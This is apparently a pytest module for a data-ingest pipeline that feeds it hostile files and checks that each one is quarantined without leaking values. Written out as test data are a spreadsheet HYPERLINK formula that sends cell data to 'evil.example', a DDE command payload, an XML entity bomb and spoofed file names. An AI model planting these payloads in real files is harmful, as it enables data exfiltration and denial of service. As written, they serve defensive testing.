"""A corpus of broken and hostile exports, built from valid simulated ones, in every format
and encoding, delivered together with good files in one ingest run. Each is quarantined
whole with the one specific check its failure calls for, a report that names rows and
columns but never a value, and no traceback anywhere; the warehouse is left exactly as it
was, and the good files delivered beside them load."""

import contextlib
import dataclasses
import hashlib
import io
import json
import logging
import os
import shutil
import sys
import tempfile
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import duckdb
import openpyxl
import pytest

from pipelines.deliveries import printable
from pipelines.ingest import ingest
from tests.helpers import col, export_spec, fresh_ids, mutate_cell, read_rows, snapshot, write_rows

LOADED = ("DE-POL-BKA", "GR-POL-HP", "FI-POL-POLIISI", "SE-POL-NMR")  # ingested before the corpus arrives
MAX_FILE_SIZE = 2 * 2**20  # THB_MAX_FILE_SIZE for the scenario: well above every good file

pytestmark = pytest.mark.xdist_group("hostile")  # one worker builds the scenario


@dataclasses.dataclass(frozen=True)
class Case:
    source: str
    make: Callable  # make(source_id, template, target, tag) writes the hostile file at target
    stage: str
    check: str
    field: str | None = None
    secret: str | None = None  # what the file holds that no report, log line or summary may quote
    also: tuple[str, ...] = ()  # checks that fail beside it
    rows: tuple[int, ...] = (2,)  # the records a row-level check names
    file_name: str | None = None  # the landing name ({tag} = the case's tag), if not the export pattern's


# Makers: each writes a hostile file from a valid export (`template`) of its source.


def raw(fn):
    """The template's bytes, transformed."""
    return lambda sid, template, target, tag: target.write_bytes(fn(template.read_bytes()))


def csv_rows(fn):
    """The template's rows (record ids made unique to the case), transformed, written back."""

    def make(sid, template, target, tag):
        write_rows(target, sid, fn(fresh_ids(read_rows(template, sid), sid, tag)))

    return make


def header_in(encoding: str):
    """The template's rows (ids made unique): the header in `encoding`, the records in UTF-8."""

    def make(sid, template, target, tag):
        write_rows(target, sid, fresh_ids(read_rows(template, sid), sid, tag), "utf-8")
        header, rest = target.read_text(encoding="utf-8").split("\n", 1)
        target.write_bytes((header + "\n").encode(encoding) + rest.encode("utf-8"))

    return make


def xlsx(fn):
    """The template workbook (ids made unique), changed in place by fn(sid, sheet)."""

    def make(sid, template, target, tag):
        wb = openpyxl.load_workbook(template)
        ws = wb.active
        header = [c.value for c in ws[1]]
        i = header.index(col(sid, "record_id")) + 1
        for r in range(2, ws.max_row + 1):
            ws.cell(r, i).value = f"{ws.cell(r, i).value}-{tag}"
        fn(sid, ws)
        wb.save(target)

    return make


def xlsx_cell(field, value, row=3):
    def fn(sid, ws):
        ws.cell(row, [c.value for c in ws[1]].index(col(sid, field)) + 1).value = value

    return xlsx(fn)


def jsonl(fn):
    """The template's records (ids made unique), transformed by fn(sid, records), one per line."""

    def make(sid, template, target, tag):
        records = [json.loads(line) for line in template.read_text(encoding="utf-8").splitlines() if line.strip()]
        key = col(sid, "record_id")
        records = [r | {key: f"{r[key]}-{tag}"} for r in records]
        text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in fn(sid, records))
        target.write_text(text, encoding="utf-8")

    return make


def jsonl_value(field, value):
    return jsonl(lambda sid, records: [records[0], records[1] | {col(sid, field): value}, *records[2:]])


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def inflating(workbook: bytes) -> bytes:
    """The workbook with 32 MiB of blanks in its sheet: a valid XLSX of a few KB."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * 32 * 2**20, 1)
    return zip_of(members)


def entity_bomb(workbook: bytes) -> bytes:
    """The workbook with a 'billion laughs' in its sheet: nested XML entities that would
    expand a few hundred bytes to gigabytes."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    laughs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    dtd = f'<!DOCTYPE worksheet [<!ENTITY a0 "lol">{laughs}]>'.encode()
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = dtd + sheet.replace(b"<is><t>", b"<is><t>&a9;", 1)
    return zip_of(members)


def halves(first: str, second: str):
    """The template's rows (ids made unique), the upper half encoded as `first`, the lower
    as `second`; the last row's gender is 'männlich', so both halves hold non-ASCII text."""

    def make(sid, template, target, tag):
        rows = mutate_cell("gender", "männlich", row=-1, source_id=sid)(fresh_ids(read_rows(template, sid), sid, tag))
        write_rows(target, sid, rows, "utf-8")
        lines = target.read_text(encoding="utf-8").splitlines(keepends=True)
        half = len(lines) // 2
        target.write_bytes("".join(lines[:half]).encode(first) + "".join(lines[half:]).encode(second))

    return make


def cut_inside_last_character(data: bytes) -> bytes:
    return data[: data.rstrip().rfind(b"\xc3") + 1]


def cut_inside_last_line(data: bytes) -> bytes:
    start = data.rstrip().rfind(b"\n") + 1
    return data[: start + (len(data) - start) // 2]


def grow_past(limit: int):
    """Valid rows, repeated with fresh ids (the first column's), until the file is larger than `limit`."""

    def fn(rows):
        out, k, size = [rows[0]], 0, 0
        while size <= limit:
            for r in rows[1:]:
                out.append([f"{r[0]}-{k}", *r[1:]])
                size += len(";".join(out[-1])) + 2
            k += 1
        return out

    return fn


def symlink_to_outside(kind):
    """A link in landing to a file (or folder) outside it: a valid export holding SECRET ids."""

    def make(sid, template, target, tag):
        outside = target.parent.parent / "outside"  # outbox/outside
        outside.mkdir(exist_ok=True)
        secret = outside / "export.csv"
        write_rows(secret, sid, fresh_ids(read_rows(template, sid), sid, "SECRET"))
        target.symlink_to(secret if kind == "file" else outside)

    return make


def fifo(sid, template, target, tag):
    os.mkfifo(target)  # opening it to read would block the ingest for ever


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"

CASES = {
    # the reader: size, encoding, binary, truncation, format, parse errors, header
    "utf-8 under a cp1253 mapping": Case(
        "GR-POL-HP", raw(lambda b: b.decode("cp1253").encode("utf-8")), "read", "encoding"
    ),
    "cp1252 under a utf-8 mapping": Case(
        "DE-POL-BKA", raw(lambda b: b.decode("utf-8-sig").encode("cp1252")), "read", "encoding"
    ),
    "a byte cp1250 does not define": Case(
        "RS-NGO-ATINA", raw(lambda b: b.replace(b"\n", b"\n\x98", 1)), "read", "encoding"
    ),
    "utf-8 and cp1252 halves under a utf-8 mapping": Case(
        "DE-POL-BKA", halves("utf-8-sig", "cp1252"), "read", "encoding"
    ),
    "utf-8 rows in a cp1252 file": Case("AT-POL-BK", halves("cp1252", "utf-8"), "read", "encoding"),
    "utf-8 records under a cp1251 header": Case("BG-NGO-ANIMUS", header_in("cp1251"), "read", "encoding"),
    "utf-16 (Excel's 'Unicode text') under a cp1252 mapping": Case(
        "AT-POL-BK", raw(lambda b: b.decode("cp1252").encode("utf-16")), "read", "encoding"
    ),
    "NUL bytes in a cp1253 file": Case(
        "GR-POL-HP", csv_rows(mutate_cell("person_key", "pk-gr-\x00\x00", source_id="GR-POL-HP")), "read", "binary"
    ),
    "binary junk named .csv": Case("DE-POL-BKA", raw(lambda b: bytes(range(256)) * 8), "read", "binary"),
    "empty csv": Case("DE-POL-BKA", raw(lambda b: b""), "read", "empty"),
    "a column named twice": Case(
        "DE-POL-BKA", csv_rows(lambda rows: [rows[0][:-1] + [rows[0][0]]] + rows[1:]), "read", "header"
    ),
    "truncated csv": Case("DE-POL-BKA", raw(cut_inside_last_line), "read", "truncated"),
    "truncated inside a utf-8 character": Case(
        "SE-NGO-PLATTFORMEN", raw(cut_inside_last_character), "read", "truncated"
    ),
    "truncated json lines": Case("SE-POL-NMR", raw(cut_inside_last_line), "read", "truncated"),
    "truncated xlsx": Case("FI-POL-POLIISI", raw(lambda b: b[: len(b) // 2]), "read", "truncated"),
    "a row with an extra field": Case(
        "DE-POL-BKA", csv_rows(lambda rows: [rows[0], rows[1] + ["x"], *rows[2:]]), "read", "malformed"
    ),
    "malformed json lines": Case(
        "SE-POL-NMR", raw(lambda b: b + '{"ärende_id": "x", \n'.encode()), "read", "malformed"
    ),
    "json line not an object": Case("SE-POL-NMR", raw(lambda b: b + b"[1, 2]\n"), "read", "malformed"),
    "png named .xlsx": Case("FI-POL-POLIISI", raw(lambda b: b"\x89PNG\r\n\x1a\n" + b"\x00" * 64), "read", "format"),
    "zip archive named .xlsx": Case(
        "FI-POL-POLIISI", raw(lambda b: zip_of({"export.csv": b"a;b\n1;2\n"})), "read", "format"
    ),
    "xml entity bomb in xlsx": Case("FI-POL-POLIISI", raw(entity_bomb), "read", "format"),
    "xlsx that inflates past the size limit": Case("FI-POL-POLIISI", raw(inflating), "read", "size"),
    "a file past the size limit": Case("DE-POL-BKA", csv_rows(grow_past(MAX_FILE_SIZE)), "read", "size"),
    # the structure: exactly the registered columns
    "missing column": Case("DE-POL-BKA", csv_rows(lambda rows: [r[:-1] for r in rows]), "structure", "columns"),
    "extra personal column": Case(
        "DE-POL-BKA",
        csv_rows(lambda rows: [r + [v] for r, v in zip(rows, ["Vorname"] + ["Anna"] * (len(rows) - 1), strict=True)]),
        "structure",
        "columns",
        secret="Anna",
    ),
    "missing column in xlsx": Case(
        "FI-POL-POLIISI", xlsx(lambda sid, ws: ws.delete_cols(ws.max_column)), "structure", "columns"
    ),
    "a name under an extra json key": Case(
        "SE-POL-NMR",
        jsonl(lambda sid, records: [records[0] | {"namn": "Astrid Lindqvist"}, *records[1:]]),
        "structure",
        "columns",
        secret="Lindqvist",
    ),
    # the cells: formulas and oversized values, in any column, before any mapping
    "formula in a csv id column": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("record_id", HYPERLINK)), "contract", "formula", "record_id", "evil"
    ),
    "formula in a csv key column": Case(
        "GR-POL-HP",
        csv_rows(mutate_cell("person_key", HYPERLINK, source_id="GR-POL-HP")),
        "contract",
        "formula",
        "person_key",
        "evil",
    ),
    "formula in a coded cp1253 column": Case(
        "GR-POL-HP",
        csv_rows(mutate_cell("status", DDE, source_id="GR-POL-HP")),
        "contract",
        "formula",
        "status",
        "cmd|",
    ),
    "formula after a minus in json lines": Case(
        "SE-POL-NMR",
        jsonl_value("identity_encoding", "-2+3+cmd|' /C calc'!A0"),
        "contract",
        "formula",
        "identity_encoding",
        "cmd|",
    ),
    "formula after a plus in a cp1250 file": Case(
        "RS-NGO-ATINA",
        csv_rows(mutate_cell("identity_encoding", "+cmd|' /C calc'!A0", row=1, source_id="RS-NGO-ATINA")),
        "contract",
        "formula",
        "identity_encoding",
        "cmd|",
        rows=(1,),
    ),
    "real formula in an xlsx cell": Case(
        "FI-POL-POLIISI", xlsx_cell("gender", '=IF(1,"nainen")'), "contract", "formula", "gender", "IF(1"
    ),
    "a 1 MB cell": Case(
        "DE-POL-BKA",
        csv_rows(mutate_cell("identity_encoding", "v1:" + "x" * 2**20)),
        "contract",
        "cell_size",
        "identity_encoding",
    ),
    # the row contract
    "unknown label": Case("DE-POL-BKA", csv_rows(mutate_cell("gender", "Mann")), "contract", "code_list", "gender"),
    "status unknown to vocabulary": Case(
        "GR-POL-HP", csv_rows(mutate_cell("status", "θύμα", source_id="GR-POL-HP")), "contract", "code_list", "status"
    ),
    "unknown country code": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("citizenship", "XX")), "contract", "code_list", "citizenship"
    ),
    "age not a number": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("age_group", "ca. 30")), "contract", "code_list", "age_group"
    ),
    "invalid date": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("reference_date", "31.02.2024")), "contract", "date_range", "reference_date"
    ),
    "future date": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("reference_date", "01.01.2031")), "contract", "date_range", "reference_date"
    ),
    "future date in xlsx": Case(
        "FI-POL-POLIISI", xlsx_cell("reference_date", datetime(2031, 1, 1)), "contract", "date_range", "reference_date"
    ),
    "date in another format": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("reference_date", "2024-03-01")), "contract", "date_range", "reference_date"
    ),
    "record_id missing": Case(
        "DE-POL-BKA", csv_rows(mutate_cell("record_id", "")), "contract", "required", "record_id"
    ),
    "duplicate record_id": Case(
        "DE-POL-BKA",
        csv_rows(lambda rows: [rows[0], rows[1], *rows[1:]]),
        "contract",
        "unique_record_id",
        "record_id",
        rows=(1, 2),
    ),
    "duplicate record_id in json lines": Case(
        "SE-POL-NMR",
        jsonl(lambda sid, records: [records[0], *records]),
        "contract",
        "unique_record_id",
        "record_id",
        rows=(1, 2),
    ),
    "e-mail as person_key": Case(
        "GR-POL-HP",
        csv_rows(mutate_cell("person_key", "maria.k@example.org", source_id="GR-POL-HP")),
        "contract",
        "pii_screen",
        "person_key",
        "maria.k@example.org",
        also=("id_format",),
    ),
    "e-mail in json lines": Case(
        "BG-POL-MVR",
        jsonl_value("person_key", "ivana.p@example.bg"),
        "contract",
        "pii_screen",
        "person_key",
        "ivana.p@example.bg",
        also=("id_format",),
    ),
    "phone as record_id": Case(
        "DE-POL-BKA",
        csv_rows(mutate_cell("record_id", "+30 697 123 4567")),
        "contract",
        "pii_screen",
        "record_id",
        "697 123 4567",
        also=("id_format",),
    ),
    "phone in a cp1251 file": Case(
        "BG-NGO-ANIMUS",
        csv_rows(mutate_cell("record_id", "+359 88 123 4567", source_id="BG-NGO-ANIMUS")),
        "contract",
        "pii_screen",
        "record_id",
        "88 123 4567",
        also=("id_format",),
    ),
    "passport number as record_id": Case(
        "DE-POL-BKA",
        csv_rows(mutate_cell("record_id", "AB1234567")),
        "contract",
        "pii_screen",
        "record_id",
        "AB1234567",
    ),
    "name as record_id": Case(
        "DE-POL-BKA",
        csv_rows(mutate_cell("record_id", "Maria Papadopoulou")),
        "contract",
        "pii_screen",
        "record_id",
        "Papadopoulou",
        also=("id_format",),
    ),
    "name in the encoding column": Case(
        "DE-POL-BKA",
        csv_rows(mutate_cell("identity_encoding", "Maria Papadopoulou")),
        "contract",
        "id_format",
        "identity_encoding",
        "Papadopoulou",
    ),
    "e-mail in the encoding column of a cp1251 file": Case(
        "BG-NGO-ANIMUS",
        csv_rows(mutate_cell("identity_encoding", "ivana.p@example.bg", source_id="BG-NGO-ANIMUS")),
        "contract",
        "id_format",
        "identity_encoding",
        "ivana.p@example.bg",
    ),
    "name as record_id in xlsx": Case(
        "FI-POL-POLIISI",
        xlsx_cell("record_id", "Matti Virtanen"),
        "contract",
        "pii_screen",
        "record_id",
        "Virtanen",
        also=("id_format",),
    ),
    # the landing folder: file types and names
    "a name outside the source's pattern": Case(
        "DE-POL-BKA", csv_rows(lambda rows: rows), "route", "routing", file_name="bka_export_{tag}.csv"
    ),
    "symlink to a file outside landing": Case(
        "DE-POL-BKA", symlink_to_outside("file"), "route", "file_type", secret="SECRET"
    ),
    "symlink to a folder outside landing": Case("DE-POL-BKA", symlink_to_outside("folder"), "route", "file_type"),
    "a named pipe": Case("DE-POL-BKA", fifo, "route", "file_type"),
    "'..' in the name": Case(
        "DE-POL-BKA", csv_rows(lambda rows: rows), "route", "file_name", file_name="bka_lagebild_{tag}..csv"
    ),
    "a leading '-'": Case(
        "DE-POL-BKA", csv_rows(lambda rows: rows), "route", "file_name", file_name="-bka_lagebild_{tag}.csv"
    ),
    "a line break in the name": Case(
        "DE-POL-BKA", csv_rows(lambda rows: rows), "route", "file_name", file_name="bka_lagebild_{tag}\nx.csv"
    ),
    "a right-to-left override in the name": Case(
        "DE-POL-BKA", csv_rows(lambda rows: rows), "route", "file_name", file_name="bka_lagebild_{tag}\u202excod.csv"
    ),
    "a very long name": Case(
        "DE-POL-BKA",
        csv_rows(lambda rows: rows),
        "route",
        "file_name",
        file_name="bka_lagebild_{tag}" + "x" * 230 + ".csv",
    ),
    "a name that is not UTF-8": Case(
        "DE-POL-BKA", csv_rows(lambda rows: rows), "route", "file_name", file_name="bka_lagebild_{tag}\udcff.csv"
    ),
}
NAMES = list(CASES)


@contextlib.contextmanager
def everything_written():
    """What the flow writes: its log records (Prefect's and ours) and the process's stdout
    and stderr, at the file descriptors too."""
    records: list[logging.LogRecord] = []
    handler = logging.Handler(logging.DEBUG)
    handler.emit = records.append
    loggers = [logging.getLogger(n) for n in ("", "prefect", "prefect.flow_runs", "prefect.task_runs")]
    out = {"records": records}
    with tempfile.TemporaryFile() as fds, contextlib.ExitStack() as stack:
        text = io.StringIO()
        stack.enter_context(contextlib.redirect_stdout(text))
        stack.enter_context(contextlib.redirect_stderr(text))
        for logger in loggers:
            logger.addHandler(handler)
            stack.callback(logger.removeHandler, handler)
        saved = [os.dup(1), os.dup(2)]
        sys.stdout.flush()
        os.dup2(fds.fileno(), 1)
        os.dup2(fds.fileno(), 2)
        try:
            yield out
        finally:
            os.dup2(saved[0], 1), os.dup2(saved[1], 2)
            os.close(saved[0]), os.close(saved[1])
            fds.seek(0)
            out["text"] = text.getvalue() + fds.read().decode("utf-8", "replace")


@pytest.fixture(scope="module")
def scenario(world, tmp_path_factory, prefect_harness):
    """Ingest four sources with one good file of each format held back; then deliver the
    held-back files together with the whole corpus, and ingest again."""
    data = tmp_path_factory.mktemp("hostile")
    for sid in LOADED:
        shutil.copytree(world / "landing" / sid[:2] / sid, data / "landing" / sid[:2] / sid)
    held_back = {}  # landing path → where it waits
    for sid in ("DE-POL-BKA", "FI-POL-POLIISI", "SE-POL-NMR"):
        files = sorted((data / "landing" / sid[:2] / sid).iterdir())
        empty = min(p.stat().st_size for p in files)  # a quarter without records: the header alone
        f = [p for p in files if p.stat().st_size > empty][-1]  # the latest delivery with records
        held_back[f] = data / "held_back" / f.name
        held_back[f].parent.mkdir(exist_ok=True)
        shutil.move(f, held_back[f])
    good = {  # the largest case export of each source
        sid: max(
            (p for p in (world / "landing" / sid[:2] / sid).iterdir() if export_spec(sid)[1].matches(p.name)),
            key=lambda p: p.stat().st_size,
        )
        for sid in {c.source for c in CASES.values()}
    }
    built, delivered = {}, {}
    for i, (name, case) in enumerate(CASES.items()):
        _, spec = export_spec(case.source)
        tag = f"case{i}"
        file_name = (case.file_name or spec.pattern.replace("*", "{tag}")).format(tag=tag)
        built[name] = data / "outbox" / tag / file_name
        built[name].parent.mkdir(parents=True)
        case.make(case.source, good[case.source], built[name], tag)
        delivered[name] = data / "landing" / case.source[:2] / case.source / file_name
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("THB_MAX_FILE_SIZE", str(MAX_FILE_SIZE))
        ingest(data)
        before = snapshot(data / "warehouse.duckdb")
        for name in CASES:  # deliver the corpus, and the held-back good files beside it
            delivered[name].parent.mkdir(parents=True, exist_ok=True)
            os.rename(built[name], delivered[name])
        for landing_path, waiting in held_back.items():
            os.rename(waiting, landing_path)
        with everything_written() as written:
            summary = ingest(data)
    return {
        "data": data,
        "summary": summary,
        "before": before,
        "after": snapshot(data / "warehouse.duckdb"),
        "held_back": list(held_back),
        "delivered": delivered,
        "written": written,
        "secret_file": data / "outbox" / "outside" / "export.csv",
    }


def _manifest(data: Path, sql: str, params=()) -> list[tuple]:
    con = duckdb.connect(str(data / "warehouse.duckdb"), read_only=True)
    try:
        return con.execute(sql, list(params)).fetchall()
    finally:
        con.close()


def _rel(data: Path, path: Path) -> str:
    return printable(path.relative_to(data / "landing").as_posix())


@pytest.mark.parametrize("name", NAMES)
def test_each_hostile_file_is_quarantined_whole_with_its_specific_check(scenario, name):
    case, data = CASES[name], scenario["data"]
    (qpath, reasons), *more = _manifest(
        data,
        "SELECT quarantine_path, reasons FROM landing.manifest WHERE path = ? AND status = 'quarantined'",
        [_rel(data, scenario["delivered"][name])],
    )
    assert not more
    quarantine = (data / "quarantine").resolve()
    moved = data / "quarantine" / qpath
    report_path = moved.with_name(moved.name + ".report.json")
    assert moved.parent.resolve() == quarantine / case.source[:2] / case.source, "quarantine stays inside"
    assert os.path.lexists(moved), "moved whole, out of landing"
    assert not os.path.lexists(scenario["delivered"][name]), "moved whole, out of landing"
    report = json.loads(report_path.read_text(encoding="utf-8"))
    assert report["stage"] == case.stage, (name, report)
    failed = {f["check"]: f for f in report["failures"]}
    assert set(failed) == {case.check, *case.also}, (name, report["failures"])
    f = failed[case.check]
    assert f["description"]
    assert f["description"] in report_path.read_text(encoding="utf-8")
    assert case.check in reasons
    if case.field:
        assert f["field"] == case.field
        assert f["column"] == col(case.source, case.field)
        assert f["rows"] == list(case.rows), name
        assert f["count"] == len(case.rows), name
    if case.secret:
        assert case.secret not in report_path.read_text(encoding="utf-8"), "a report never quotes the file's values"
        assert case.secret not in str(reasons)


def test_nothing_is_read_through_a_link(scenario):
    data, secret = scenario["data"], scenario["secret_file"]
    link = scenario["delivered"]["symlink to a file outside landing"]
    ((sha,),) = _manifest(data, "SELECT sha256 FROM landing.manifest WHERE path = ?", [_rel(data, link)])
    assert sha != hashlib.sha256(secret.read_bytes()).hexdigest(), "the link's target was never hashed"
    ((qpath,),) = _manifest(data, "SELECT quarantine_path FROM landing.manifest WHERE path = ?", [_rel(data, link)])
    assert (data / "quarantine" / qpath).is_symlink(), "the link itself is quarantined, not a copy of its target"
    assert secret.exists(), "what the links point to is left alone"
    assert secret.parent.is_dir(), "what the links point to is left alone"
    assert _manifest(data, "SELECT count(*) FROM harmonised.case_records WHERE record_id LIKE '%SECRET%'") == [(0,)]


def test_quarantine_holds_only_reports_and_what_was_delivered(scenario):
    data = scenario["data"]
    quarantine = data / "quarantine"
    entries = [Path(folder, n) for folder, dirs, files in os.walk(quarantine) for n in dirs + files]
    reports = [p for p in entries if p.name.endswith(".report.json")]
    assert len(reports) == len(CASES)
    for p in entries:
        assert p.parent.resolve().is_relative_to(quarantine.resolve())
        assert len(p.name.encode("utf-8", "surrogateescape")) < 256


def test_no_traceback_and_no_value_anywhere(scenario):
    written, summary = scenario["written"], scenario["summary"]
    text = written["text"] + "\n".join(r.getMessage() for r in written["records"])
    dump = json.dumps(dataclasses.asdict(summary), ensure_ascii=False)
    assert "Traceback" not in text
    assert "Traceback" not in dump
    assert not [r for r in written["records"] if r.exc_info or r.levelno >= logging.ERROR]
    assert sum("quarantined" in r.getMessage() for r in written["records"]) >= len(CASES), "the log was captured"
    for case in CASES.values():
        if case.secret:
            assert case.secret not in text
            assert case.secret not in dump
    assert "\n" not in "".join(q.file for q in summary.quarantined), "names are escaped in the summary"
    assert "\u202e" not in text + dump


def test_the_warehouse_is_exactly_as_before_and_the_good_files_load(scenario):
    data, before, after = scenario["data"], scenario["before"], scenario["after"]
    good = [_rel(data, p) for p in scenario["held_back"]]
    loaded = _manifest(
        data, "SELECT file_id, records FROM landing.manifest WHERE status = 'loaded' AND list_contains(?, path)", [good]
    )
    assert len(loaded) == len(good), "the good files beside the corpus load"
    assert all(n > 0 for _, n in loaded), "the good files beside the corpus load"
    assert set(after) == set(before), "no table was created for a quarantined file"
    con = duckdb.connect(str(data / "warehouse.duckdb"), read_only=True)
    try:
        for table in before:
            if table.startswith(("landing.", "linked.")):  # the manifest records; links are recomputed
                continue
            if table.startswith(("raw.", "harmonised.")):
                where = "WHERE NOT list_contains(?, file_id)"
                # the table names are the warehouse's own (snapshot), no values
                kept = con.execute(f"SELECT count(*), sum(hash(x)) FROM {table} AS x {where}", [[f for f, _ in loaded]])  # noqa: S608
            else:
                kept = con.execute(f"SELECT count(*), sum(hash(x)) FROM {table} AS x")  # noqa: S608
            assert kept.fetchall()[0] == before[table], f"{table} changed beyond the good files"
    finally:
        con.close()
    assert _manifest(data, "SELECT count(*) FROM landing.manifest WHERE status = 'quarantined'") == [(len(CASES),)]


def test_the_summary_names_every_quarantined_file(scenario):
    s = scenario["summary"]
    assert s.total["quarantined"] == len(CASES)
    assert s.total["loaded"] == len(scenario["held_back"])
    assert all(q.report and q.reason and os.path.exists(q.report) for q in s.quarantined)
